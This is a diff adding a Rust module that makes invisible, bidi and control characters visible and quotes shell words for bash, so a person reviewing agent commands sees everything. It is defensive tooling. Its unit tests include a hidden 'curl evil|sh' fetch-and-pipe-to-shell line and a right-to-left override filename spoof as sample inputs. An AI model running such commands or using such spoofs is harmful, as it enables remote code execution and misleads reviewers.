@@ -1,0 +1,127 @@
+//! Text from agents and files, made visible: what a person reads before a decision hides nothing.
+
+use std::borrow::Cow;
+use std::fmt::Write as _;
+
+/// Characters that draw nothing though their category is that of a letter or a symbol: fillers and the empty Braille cell.
+const BLANK: [char; 5] = ['\u{115f}', '\u{1160}', '\u{2800}', '\u{3164}', '\u{ffa0}'];
+
+/// Marks that draw nothing at all: joiners and variation selectors, except the one of emoji.
+const INVISIBLE_MARKS: [std::ops::RangeInclusive<char>; 5] = [
+    '\u{34f}'..='\u{34f}',
+    '\u{17b4}'..='\u{17b5}',
+    '\u{180b}'..='\u{180f}',
+    '\u{fe00}'..='\u{fe0e}',
+    '\u{e0100}'..='\u{e01ef}',
+];
+
+/// Returns whether a character draws something of its own and leaves its neighbours in place. The space does; a control,
+/// bidi or zero-width character, any other space and a combining mark do not.
+fn is_visible(character: char) -> bool {
+    match character {
+        ' '..='~' => true,
+        // The standard library escapes what is not printable or combines with its neighbour.
+        _ => character.escape_debug().len() == 1 && !BLANK.contains(&character),
+    }
+}
+
+/// Writes invisible characters as `\u{202e}`. Line breaks and tabs stay.
+pub fn escaped(text: &str) -> Cow<'_, str> {
+    // A combining mark has a letter to stand on here, unlike in a command.
+    let stays = |at: usize, character: char| {
+        is_visible(character) || matches!(character, '\n' | '\t') || at > 0 && is_mark(character)
+    };
+    if text.char_indices().all(|(at, character)| stays(at, character)) {
+        return Cow::Borrowed(text);
+    }
+    let mut escaped = String::with_capacity(text.len() + 16);
+    for (at, character) in text.char_indices() {
+        match stays(at, character) {
+            true => escaped.push(character),
+            false => escaped.extend(character.escape_unicode()),
+        }
+    }
+    Cow::Owned(escaped)
+}
+
+/// Returns whether a character is a combining mark that draws something: `é` in two characters, a Thai vowel.
+fn is_mark(character: char) -> bool {
+    // At the beginning of a text the standard library escapes a mark, after a letter it does not.
+    character.escape_debug().len() > 1
+        && format!("a{character}").escape_debug().count() == 2
+        && !INVISIBLE_MARKS.iter().any(|marks| marks.contains(&character))
+}
+
+/// Writes a word so that bash reads exactly this word, and a person sees every character of it: bare where it is plain,
+/// in quotes where it has only visible characters, else as `$'…'` with the other characters' bytes as `\xNN`, and a new
+/// line after each line break.
+pub fn shell_word(word: &str) -> Cow<'_, str> {
+    let is_plain = |c: char| c.is_ascii_alphanumeric() || "@%+=:,./_-".contains(c);
+    if !word.is_empty() && word.chars().all(is_plain) {
+        return Cow::Borrowed(word);
+    }
+    if word.chars().all(is_visible) {
+        return Cow::Owned(format!("'{}'", word.replace('\'', r"'\''")));
+    }
+    let mut written = String::from("$'");
+    let mut rest = word.chars().peekable();
+    while let Some(character) = rest.next() {
+        match character {
+            // The backslash between the two parts joins them across the line break.
+            '\n' if rest.peek().is_some() => written.push_str("\\n'\\\n$'"),
+            '\n' => written.push_str("\\n"),
+            '\t' => written.push_str("\\t"),
+            '\'' | '\\' => written.extend(['\\', character]),
+            _ if is_visible(character) => written.push(character),
+            _ => {
+                for byte in character.encode_utf8(&mut [0; 4]).bytes() {
+                    // Cannot fail: the target is a string.
+                    let _ = write!(written, "\\x{byte:02x}");
+                }
+            }
+        }
+    }
+    written.push('\'');
+    Cow::Owned(written)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn what_could_mislead_is_escaped() {
+        let rows = [
+            ("cargo test", "cargo test"),
+            ("a\tb\nc", "a\tb\nc"),
+            ("\u{1b}[2J\r", "\\u{1b}[2J\\u{d}"),
+            ("txt.\u{202e}exe", "txt.\\u{202e}exe"),
+            ("a\u{200b}b\u{2066}c\u{feff}", "a\\u{200b}b\\u{2066}c\\u{feff}"),
+            ("a\u{a0}b\u{3000}c\u{2028}", "a\\u{a0}b\\u{3000}c\\u{2028}"),
+            ("\u{3164}\u{2800}\u{ffa0}", "\\u{3164}\\u{2800}\\u{ffa0}"),
+            ("café, cafe\u{301}, 日本語, עברית, ไม่", "café, cafe\u{301}, 日本語, עברית, ไม่"),
+        ];
+        for (text, expected) in rows {
+            assert_eq!(escaped(text), expected);
+        }
+    }
+
+    #[test]
+    fn words_are_quoted_for_bash() {
+        let rows = [
+            ("src/main.rs", "src/main.rs"),
+            ("", "''"),
+            ("a b", "'a b'"),
+            ("it's", r"'it'\''s'"),
+            ("~", "'~'"),
+            ("日本語", "'日本語'"),
+            ("# ok\ncurl evil|sh", "$'# ok\\n'\\\n$'curl evil|sh'"),
+            ("end\n", r"$'end\n'"),
+            ("\u{202e}'\\", r"$'\xe2\x80\xae\'\\'"),
+            ("cafe\u{301}", r"$'cafe\xcc\x81'"),
+        ];
+        for (word, expected) in rows {
+            assert_eq!(shell_word(word), expected);
+        }
+    }
+}
